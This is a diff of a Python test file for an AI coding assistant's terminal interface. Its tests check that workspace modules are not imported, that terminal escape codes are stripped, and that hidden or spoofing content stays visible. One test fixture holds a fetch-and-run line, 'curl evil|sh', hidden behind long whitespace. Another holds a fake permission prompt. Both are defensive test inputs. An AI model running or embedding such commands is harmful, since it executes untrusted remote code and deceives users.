@@ -1,4 +1,4 @@
-"""Code and text of others at the prompt: commands of installed packages, what a workspace holds, what a tool wants."""
+"""Test foreign code and text at the prompt: commands of packages, files of a workspace, arguments of tools."""
 
 import asyncio
 import io
@@ -35,7 +35,7 @@ def register(register):
 
 @pytest.fixture
 def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """A folder with an installed package, whose commands all fail."""
+    """Install a package in a folder; all its commands fail."""
     folder = install(tmp_path / "site", "shop", PLUGIN)
     monkeypatch.setenv("PYTHONPATH", str(folder), prepend=os.pathsep)
     return folder
@@ -51,8 +51,8 @@ def install(folder: Path, name: str, code: str) -> Path:
 
 
 @pytest.mark.usefixtures("plugin")
-def test_a_command_that_fails_is_named_and_the_chat_goes_on(tmp_path: Path) -> None:
-    """In a terminal; what fails while commands are listed is said once, and nothing reaches the screen raw."""
+def test_a_failing_command_is_named_and_the_chat_continues(tmp_path: Path) -> None:
+    """A failure while commands are listed is reported once, and no raw text reaches the terminal."""
     terminal = OnTerminal("--model", script(tmp_path, "Hello."), cwd=tmp_path)
     terminal.expect("The commands of 'shop': ValueError: out of<U+001B>[2J order")
     terminal.expect("›")
@@ -69,36 +69,38 @@ def test_a_command_that_fails_is_named_and_the_chat_goes_on(tmp_path: Path) -> N
 
 
 @pytest.mark.usefixtures("plugin")
-def test_a_command_that_fails_in_a_pipe_is_exit_code_one(tmp_path: Path) -> None:
-    """With its name, and no traceback."""
-    done = chat("-p", "/db migrate", "--model", script(tmp_path), cwd=tmp_path)
-    assert done.returncode == 1
-    assert "/db migrate failed: ValueError" in done.stderr
-    assert "Traceback" not in done.stderr
+def test_a_failing_command_in_a_pipe_exits_with_one(tmp_path: Path) -> None:
+    """The message names the command, without a traceback."""
+    result = chat("-p", "/db migrate", "--model", script(tmp_path), cwd=tmp_path)
+    assert result.returncode == 1
+    assert "/db migrate failed: ValueError" in result.stderr
+    assert "Traceback" not in result.stderr
 
 
-def test_a_package_that_cannot_be_loaded_is_named_clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Whatever the message of its error holds."""
+def test_a_broken_package_is_reported_without_control_characters(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The text of its exception may hold anything."""
     folder = install(tmp_path / "site", "torn", "raise RuntimeError('\\x1b[2J')")
     monkeypatch.setenv("PYTHONPATH", str(folder), prepend=os.pathsep)
-    done = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
-    assert done.returncode == 0
-    assert "The commands of 'torn'" in done.stdout
-    assert "\x1b" not in done.stdout
+    result = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
+    assert result.returncode == 0
+    assert "The commands of 'torn'" in result.stdout
+    assert "\x1b" not in result.stdout
 
 
-def test_nothing_that_lies_in_a_workspace_is_imported(tmp_path: Path) -> None:
-    """`python -m` puts the current folder first; neither a module nor a package's commands there are taken."""
+def test_nothing_in_a_workspace_is_imported(tmp_path: Path) -> None:
+    """`python -m` puts the current folder first, but neither modules nor a package's commands there are used."""
     install(tmp_path, "evil", "def register(register): print('OWNED')")
     for name in ("rich", "prompt_toolkit", "anyio"):
         (tmp_path / f"{name}.py").write_text("raise SystemExit('OWNED')")
-    done = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
-    assert done.returncode == 0
-    assert "OWNED" not in done.stdout + done.stderr
+    result = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
+    assert result.returncode == 0
+    assert "OWNED" not in result.stdout + result.stderr
 
 
-def test_another_model_is_noted_in_the_session(tmp_path: Path) -> None:
-    """`/model` in the middle of a conversation: its file tells who answered from there on."""
+def test_a_change_of_model_is_recorded_in_the_session(tmp_path: Path) -> None:
+    """After `/model` the session's file says which model answers from then on."""
     core = AgentCore(ScriptedModel("Hello.", name="first"))
     core.load_skills(tmp_path, sessions=Sessions(str(tmp_path)))
     pipe = Pipe(core, Settings(), as_json=False)
@@ -110,30 +112,30 @@ def test_another_model_is_noted_in_the_session(tmp_path: Path) -> None:
     assert kinds == ["message", "message", "model", "message", "message"]
 
 
-def rendered(renderable: object, width: int) -> list[str]:
+def render(renderable: object, width: int) -> list[str]:
     console = Console(file=io.StringIO(), width=width, markup=False, highlight=False)
     console.print(renderable)
     return console.file.getvalue().splitlines()  # type: ignore[attr-defined,no-any-return]
 
 
-def test_code_behind_blanks_is_on_the_screen() -> None:
-    """A line of a diff that is longer than the screen goes on below."""
-    shown = rendered(Diff("+print('ok')" + " " * 120 + "; os.system('curl evil|sh')"), 60)
-    assert "curl evil|sh" in "".join(line.removeprefix("↪ ") for line in shown)
+def test_code_after_many_blanks_is_visible() -> None:
+    """A line of a diff that is longer than the screen wraps."""
+    lines = render(Diff("+print('ok')" + " " * 120 + "; os.system('curl evil|sh')"), 60)
+    assert "curl evil|sh" in "".join(line.removeprefix("↪ ") for line in lines)
 
 
 @given(st.lists(st.text("+-ab↪ 漢", min_size=1, max_size=150), min_size=1, max_size=5), st.integers(20, 90))
 def test_every_character_of_a_diff_is_shown(lines: list[str], width: int) -> None:
-    """In its order, and only the rest of a line begins with the mark: a line begins with what changed."""
+    """Characters keep their order, and only continuation lines begin with the mark."""
     diff = [f"+{line}" for line in lines]
-    shown = rendered(Diff("\n".join(diff)), width)
-    assert "".join(line.removeprefix("↪ ") for line in shown).replace(" ", "") == "".join(diff).replace(" ", "")
-    assert sum(line.startswith("+") for line in shown) == len(diff)
+    lines = render(Diff("\n".join(diff)), width)
+    assert "".join(line.removeprefix("↪ ") for line in lines).replace(" ", "") == "".join(diff).replace(" ", "")
+    assert sum(line.startswith("+") for line in lines) == len(diff)
 
 
-def test_lines_of_an_argument_cannot_pass_for_a_question() -> None:
-    """What has several stands behind bars."""
-    assert rendered(Argument("command", "ls\nAllow read_file? [y]es\x1b[2J"), 40) == [
+def test_lines_of_an_argument_cannot_imitate_a_question() -> None:
+    """An argument with several lines stands behind bars."""
+    assert render(Argument("command", "ls\nAllow read_file? [y]es\x1b[2J"), 40) == [
         "command: ",
         "  │ ls",
         "  │ Allow read_file? [y]es<U+001B>[2J",
